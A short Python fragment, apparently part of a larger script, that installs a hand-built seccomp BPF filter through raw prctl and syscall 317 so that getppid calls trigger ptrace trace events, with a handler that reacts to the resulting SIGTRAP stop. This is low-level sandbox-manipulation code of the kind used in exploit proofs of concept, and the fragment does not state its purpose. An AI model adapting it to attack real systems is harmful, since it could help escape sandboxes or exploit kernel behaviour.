resume = 7
def traced():
    f = ctypes.create_string_buffer(struct.pack('<HBBIHBBIHBBIHBBI', 0x20, 0, 0, 0, 0x15, 0, 1, 110, 6, 0, 0, 0x7ff00000, 6, 0, 0, 0x7fff0000))
    L.prctl(38, 1, 0, 0, 0); sys_(317, 1, 0, ctypes.create_string_buffer(struct.pack('<H6xQ', 4, ctypes.addressof(f))))
    for i in range(20): os.getppid()
def stopped(st):
    if st >> 8 == signal.SIGTRAP | 7 << 8: mkdir()
